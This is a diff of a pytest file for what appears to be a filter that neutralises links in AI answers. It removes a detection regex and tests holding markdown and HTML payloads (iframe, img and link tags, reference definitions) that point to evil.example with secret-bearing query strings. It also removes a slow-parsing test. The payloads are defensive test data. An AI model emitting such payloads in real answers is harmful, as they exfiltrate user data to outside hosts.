@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import random
 import re
-import time
 
 import pytest
 from markdown_it import MarkdownIt
@@ -21,13 +20,6 @@ ALICE = hit("People/Alice.md", "Alice")
 SOURCES = {1: ALICE}
 COMMONMARK = MarkdownIt("commonmark")
 _FOLLOWED = re.compile(r"""(?:href|src)="[^"]*attacker|[a-z]+://attacker|www\.attacker""")
-# An address a rendered tag fetches or follows ("<https:attacker.example>" names no address).
-_FETCHED = re.compile(
-    r"""<[A-Za-z](?:"[^"]*"|'[^']*'|[^<>"'])*?"""  # a ">" in quotes ends no tag
-    r"""\b(?:href|src|srcset|poster|action|data|background|style)\s*=\s*["']?[^"'<>]*"""
-    r"(?:attacker|evil)\.example",
-    re.IGNORECASE,
-)
 PARAGRAPH = "and then a long paragraph that goes on " * 8  # 312 characters, no "]", no line end
 
 
@@ -151,12 +143,6 @@ WORDS = [
     "<b>",
     "</b> ",
     "https://attacker.example/b ",
-    '<a title="',
-    '" src=//attacker.example/s>',
-    "[d]:\n",
-    "//attacker.example/n ",
-    "<https:attacker.example/a",
-    "> ",
 ]
 
 
@@ -172,83 +158,3 @@ def test_a_stream_cut_anywhere_sends_what_the_whole_answer_gives_brackets_open()
         assert sent == whole, (raw, pieces)
         # Plain text may name the host; nothing a renderer fetches or follows does.
         assert not _FOLLOWED.search(COMMONMARK.render(sent) + sent), (raw, sent)
-        assert not _FETCHED.search(COMMONMARK.render(sent)), (raw, sent)
-
-
-@pytest.mark.parametrize(
-    "raw",
-    [
-        # A "](" inside a tag, an autolink or a definition's title starts no address.
-        '<link title="](b)" rel=stylesheet href=//evil.example/s.css>',
-        '<iframe title="](x)" src=//evil.example/SECRET></iframe>',
-        '<video title="](x)" poster=//evil.example/p.png></video>',
-        'Answer. <a title="](x)" href=//evil.example/SECRET>click</a>',
-        "<https:evil.example/?d=secret](x)>",
-        '[c][x]\n\n[x]: //evil.example/a "t](b)"',
-        '[c][x]\n\n[x]: //evil.example/a "t\n](b)"',
-        # ... and a tag that is none (no ">" before the next "<") leaves the link around it one.
-        "[a <b](//evil.example/x) <i>",
-        "[a <b](//evil.example/x) and more text\n\nnext",
-        "[a <b](//evil.example/x) >",
-        # A definition's address on the next line.
-        "Per the notes [see details][d].\n\n[d]:\n//evil.example/p?d=secret",
-        "Per the notes [see details][d].\n\n[d]:\n<//evil.example/p>",
-        "Per the notes [see details][d].\n\n[d]:\nevil.example/p",
-        # A line that would define a link once a tag after its address is removed.
-        "[c][x]\n\n[x]: //evil.example/q <img src=x>",
-        "[c][x]\n\n[x]: //evil.example/q <span style=x>",
-        "[c][x]\n\n[x]: //evil.example/q https://evil.example/t",
-        # A tag cut off by the end or a blank line: what a renderer adds after it completes it.
-        "<iframe src=//evil.example/x\n\nmore>",
-        "Answer. <img src=//evil.example/p",
-        # A ">" in quotes ends no tag; a tag whose words lose an address goes whole.
-        '<iframe title=">" src=//evil.example/s></iframe>',
-        '<iframe title="](x) >" src=//evil.example/s></iframe>',
-        '<a title="<a href=//x>x" src=//evil.example/s>',
-        '<iframe title="<img alt=">" </a> src=//evil.example/i>',
-    ],
-)
-def test_no_address_hides_from_the_filter(raw: str) -> None:
-    whole = inert_links(check_citations(raw, [ALICE], SOURCES, "notes").text, "notes").text
-    stream = AnswerStream([ALICE], SOURCES, "notes")
-    sent = "".join([*(stream.feed(char) for char in raw), stream.close()])
-    assert sent == whole
-    assert not _FETCHED.search(COMMONMARK.render(whole)), COMMONMARK.render(whole)
-
-
-@pytest.mark.parametrize(
-    "raw",
-    [
-        "[People/Alice.md#Alice]: She works at Acme.",
-        "[S1]:\nShe works at Acme.",
-        '<a title="x" href="https://wiki.example/a">wiki</a> [x](https://wiki.example/a)',
-        "[x]: https://wiki.example/a <img src=p.png>\n\n[w][x]",
-    ],
-)
-def test_text_that_links_nowhere_else_stays(raw: str) -> None:
-    expected = raw.replace(" <img src=p.png>", " ")
-    assert inert_links(raw, GIVEN).text == expected
-    assert _streamed(raw)[1] == expected
-
-
-@pytest.mark.parametrize(
-    "unit",
-    [
-        "[<a ",
-        "<a [",
-        "[a <b>",
-        "[a <b c",
-        "[x]: y <b>\n",
-        "[x]:\n",
-        "](",
-        "<a '\"",
-        '<a title="](x) ',
-    ],
-)
-def test_a_hostile_answer_is_read_in_linear_time(unit: str) -> None:
-    """50 KB of what the tag and definition rules read: a square-time reading takes minutes."""
-    raw = unit * (50_000 // len(unit))
-    started = time.perf_counter()
-    inert_links(raw, GIVEN)
-    _streamed(raw[:10_000])
-    assert time.perf_counter() - started < 3
